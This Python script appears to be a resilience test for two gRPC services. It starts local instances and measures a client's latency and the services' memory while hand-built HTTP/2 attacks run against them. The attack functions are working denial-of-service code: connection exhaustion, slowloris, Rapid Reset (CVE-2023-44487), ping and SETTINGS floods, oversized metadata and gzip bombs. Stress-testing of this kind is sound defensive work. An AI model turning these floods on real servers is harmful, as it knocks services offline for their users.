"""Attacks each of the services in the ways that their doors must stand, and measures how another client fares.

attack_doors.py PROGRAMS STUBS SECONDS: the folder of the programs, that of the Python stubs, and the time of each attack.
The attackers come from 127.0.0.2, in plain text, and run at the lowest priority, for they would not run on this machine. The
99th percentile of the other client's calls may double; what is below 10 ms is good in any case.
"""
import contextlib
import functools
import gzip
import itertools
import multiprocessing
import os
import pathlib
import resource
import socket
import subprocess
import sys
import tempfile
import threading
import time

_CALLS_A_SECOND = 100
_CONNECTIONS = 10_000
_MAX_RATIO = 2.0
# Below this a difference is the scheduler's.
_FLOOR_SECONDS = 0.005
# Ingest may take more before it looks for a flood: what its workers need for long articles (ingest_service/config.cc).
_MAX_GROWTH_BYTES = {"dateline-ingest": 512 << 20, "dateline-query": 256 << 20}
# What each program is asked: service and method.
_QUESTIONS = {"dateline-ingest": ("FeedService", "GetFeedInfo"), "dateline-query": ("QueryService", "GetIndexStatus")}


def frame(kind, flags, stream, payload=b""):
    """An HTTP/2 frame (RFC 9113, 4.1)."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def literal(name, value):
    """A header that is in no table (RFC 7541, 6.2.2)."""
    name, value = name.encode(), value.encode()
    return b"\0" + integer(len(name)) + name + integer(len(value)) + value


def integer(value):
    """With a prefix of seven bits (RFC 7541, 5.1)."""
    if value < 127:
        return bytes([value])
    encoded, value = [127], value - 127
    while value >= 128:
        encoded.append(value % 128 + 128)
        value //= 128
    return bytes(encoded + [value])


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0)


def call(service, stream, *more):
    """The headers of a call."""
    headers = [(":method", "POST"), (":scheme", "http"), (":path", service.path), (":authority", "localhost"),
               ("te", "trailers"), ("content-type", "application/grpc"), *more]
    block = b"".join(literal(name, value) for name, value in headers)
    parts = [block[i:i + 16384] for i in range(0, len(block), 16384)]
    return b"".join(frame(9 if i else 1, 4 if i == len(parts) - 1 else 0, stream, part) for i, part in enumerate(parts))


def connect(service):
    """A connection from the attackers' address."""
    connection = socket.socket()
    connection.bind(("127.0.0.2", 0))
    connection.settimeout(5)
    connection.connect(service.address)
    return connection


def is_open(connection):
    """Whether the other side has not closed it, whatever else it says. One that is closed is closed on this side too."""
    connection.setblocking(False)
    with contextlib.suppress(OSError):
        try:
            while connection.recv(1 << 16):
                pass
        except BlockingIOError:
            connection.settimeout(5)
            return True
    connection.close()
    return False


def attack_connections(service, end):
    """Ten thousand connections that say nothing, made again when they are closed."""
    held = []
    while time.monotonic() < end:
        if len(held) >= _CONNECTIONS:
            time.sleep(0.1)
            held = [connection for connection in held if is_open(connection)]
            continue
        with contextlib.suppress(OSError):
            held.append(connect(service))


def attack_slow_loris(service, end):
    """A thousand connections that say a byte now and then, made again when they are cut.

    Of three one is slow from its beginning, one in the headers of a call, and one has made a call and sends no request.
    """
    message = PREFACE + call(service, 1)
    beginnings = itertools.cycle((0, len(PREFACE), len(message)))
    held = []  # [connection, bytes that it has said]
    while time.monotonic() < end:
        held = [one for one in held if is_open(one[0])]
        while len(held) < 1000 and time.monotonic() < end:
            with contextlib.suppress(OSError):
                connection, said = connect(service), next(beginnings)
                connection.sendall(message[:said])
                held.append([connection, said])
        for one in held:
            with contextlib.suppress(OSError):
                one[1] += one[0].send(message[one[1]:one[1] + 1])
        time.sleep(0.5)


def flood(service, end, bytes_of_batch):
    """Sends batch after batch, on a new connection when the last one was closed."""
    while time.monotonic() < end:
        with contextlib.suppress(OSError):
            connection = connect(service)
            connection.sendall(PREFACE)
            batch = 0
            while time.monotonic() < end:
                connection.sendall(bytes_of_batch(batch))
                batch += 1
                connection.setblocking(False)
                with contextlib.suppress(BlockingIOError):
                    if not connection.recv(1 << 16):
                        break
                connection.settimeout(5)


def attack_rapid_reset(service, end):
    """Calls that are reset as soon as they have begun (CVE-2023-44487)."""
    def batch(number):
        streams = range(200 * number + 1, 200 * (number + 1), 2)
        return b"".join(call(service, stream) + frame(3, 0, stream, (8).to_bytes(4, "big")) for stream in streams)
    flood(service, end, batch)


def attack_pings(service, end):
    """Nothing but pings."""
    flood(service, end, lambda _: frame(6, 0, 0, b"12345678") * 1000)


def attack_settings(service, end):
    """Nothing but settings, each of which asks for an answer."""
    flood(service, end, lambda _: frame(4, 0, 0, b"\0\4\0\0\xff\xff") * 1000)


def attack_metadata(service, end):
    """Calls with metadata far over the limit."""
    flood(service, end, lambda batch: call(service, 2 * batch + 1, *((f"x-{i}", "y" * 1000) for i in range(60))))


def attack_large_message(service, end):
    """Messages that say that they are two gigabytes long, and go on."""
    chunk = frame(0, 0, 1, b"x" * 16384)

    def batch(number):
        head = call(service, 1) + frame(0, 0, 1, b"\0" + (0x7fffffff).to_bytes(4, "big")) if number == 0 else b""
        return head + chunk * 4
    flood(service, end, batch)


@functools.cache
def packed_zeros():
    """Fifty megabytes in fifty kilobytes, which fit into the window that a new stream has."""
    return gzip.compress(bytes(50 << 20), 9)


def attack_bomb(service, end):
    """Small messages that would unpack to a thousand times as much, each on a connection of its own."""
    message = b"\1" + len(packed_zeros()).to_bytes(4, "big") + packed_zeros()
    parts = [message[i:i + 16384] for i in range(0, len(message), 16384)]
    frames = b"".join(frame(0, 1 if part is parts[-1] else 0, 1, part) for part in parts)
    while time.monotonic() < end:
        with contextlib.suppress(OSError):
            connection = connect(service)
            connection.sendall(PREFACE + call(service, 1, ("grpc-encoding", "gzip")) + frames)
            time.sleep(0.2)
            connection.close()


def run_attack(attack, service, seconds):
    """In a process of its own."""
    os.nice(19)
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    end = time.monotonic() + seconds
    threads = [threading.Thread(target=attack, args=(service, end), daemon=True) for _ in range(4)] \
        if attack not in (attack_connections, attack_slow_loris) else \
        [threading.Thread(target=attack, args=(service, end), daemon=True)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=seconds + 10)


class Service:
    """A service of its own, with stores in a folder that is removed with it. A query service has an ingest service."""

    def __init__(self, programs, program):
        self.folder = tempfile.TemporaryDirectory()
        self.program = program
        self.name, self.method = _QUESTIONS[program]
        self.path = f"/dateline.v1.{self.name}/{self.method}"
        self.processes = []
        self.address = self._start(programs, "dateline-ingest")
        if program == "dateline-query":
            self.address = self._start(programs, program, "--ingest=%s:%d" % self.address)

    def _start(self, programs, program, *flags):
        # As a limit of open files for twice the connections that it takes.
        process = subprocess.Popen(
            [pathlib.Path(programs, program), "--listen=127.0.0.1:0", f"--store=sqlite:{self.folder.name}/{program}", *flags],
            stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)
        self.processes.append(process)
        host, port = process.stdout.readline().split()[-1].split(":")
        return host, int(port)

    def _of_process(self, name):
        return pathlib.Path(f"/proc/{self.processes[-1].pid}/{name}")

    def forget_peak(self):
        """From now on peak_bytes is of what follows (proc(5), clear_refs)."""
        self._of_process("clear_refs").write_text("5")

    def peak_bytes(self):
        """The most memory that the attacked process has had."""
        lines = self._of_process("status").read_text().splitlines()
        return next(int(line.split()[1]) << 10 for line in lines if line.startswith("VmHWM:"))

    def stands(self):
        return self.processes[-1].poll() is None

    def stop(self):
        """Whether each has ended in order."""
        codes = []
        for process in reversed(self.processes):
            process.terminate()
            codes.append(process.wait())
        self.folder.cleanup()
        return not any(codes)


class Victim:
    """Another client: calls at a steady rate, and how long each took."""

    def __init__(self, service, stubs):
        if stubs not in sys.path:
            sys.path.insert(0, stubs)
        import grpc
        from dateline.v1 import feed_service_pb2, feed_service_pb2_grpc, query_service_pb2, query_service_pb2_grpc
        messages, stub_types = {"FeedService": (feed_service_pb2, feed_service_pb2_grpc),
                                "QueryService": (query_service_pb2, query_service_pb2_grpc)}[service.name]
        self.grpc, self.method = grpc, service.method
        self.request = getattr(messages, f"{service.method}Request")()
        self.target = "%s:%d" % service.address
        self.stub_type = getattr(stub_types, f"{service.name}Stub")
        self.ask = self._method_on(grpc.insecure_channel(self.target))

    def _method_on(self, channel):
        return getattr(self.stub_type(channel), self.method)

    def measure(self, seconds):
        """(99th percentile in seconds, calls that failed)"""
        times, failed = [], 0
        begin = time.monotonic()
        for number in range(int(seconds * _CALLS_A_SECOND)):
            time.sleep(max(0, begin + number / _CALLS_A_SECOND - time.monotonic()))
            start = time.monotonic()
            try:
                self.ask(self.request, timeout=5)
            except self.grpc.RpcError:
                failed += 1
            times.append(time.monotonic() - start)
        return sorted(times)[int(0.99 * len(times))], failed

    def newcomer_is_served(self):
        with self.grpc.insecure_channel(self.target, [("grpc.use_local_subchannel_pool", 1)]) as channel:
            self._method_on(channel)(self.request, timeout=5)
        return True


def try_attack(attack, program, programs, stubs, seconds):
    """What must hold and does not; prints a line."""
    service = Service(programs, program)
    victim = Victim(service, stubs)
    victim.measure(1)
    alone, failed_alone = victim.measure(seconds)
    service.forget_peak()
    memory = service.peak_bytes()
    attacker = multiprocessing.Process(target=run_attack, args=(attack, service, seconds + 2))
    attacker.start()
    time.sleep(1)
    attacked, failed = victim.measure(seconds - 1)
    served = victim.newcomer_is_served()
    attacker.join()
    stands = service.stands()
    growth = service.peak_bytes() - memory if stands else 0
    problems = []
    bar = _MAX_RATIO * max(alone, _FLOOR_SECONDS)
    if attacked > bar:
        problems.append(f"99th percentile over {1e3 * bar:.2f} ms")
    if failed or failed_alone or not served:
        problems.append(f"{failed} calls failed")
    if growth > _MAX_GROWTH_BYTES[program]:
        problems.append(f"memory grew by {growth >> 20} MiB")
    if not service.stop() or not stands:
        problems.append("the service did not stand")
    print(f"{program[9:]:6} {attack.__name__[7:]:14} p99 {1e3 * alone:7.2f} ms alone, {1e3 * attacked:7.2f} ms under attack; "
          f"memory +{growth / (1 << 20):.0f} MiB; {'; '.join(problems) or 'stands'}", flush=True)
    return problems


def main():
    programs, stubs, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
    packed_zeros()  # takes seconds, which are not the attack's
    attacks = [value for name, value in globals().items() if name.startswith("attack_")]
    return 1 if any([try_attack(attack, program, programs, stubs, seconds)
                     for program in _QUESTIONS for attack in attacks]) else 0


if __name__ == "__main__":
    sys.exit(main())
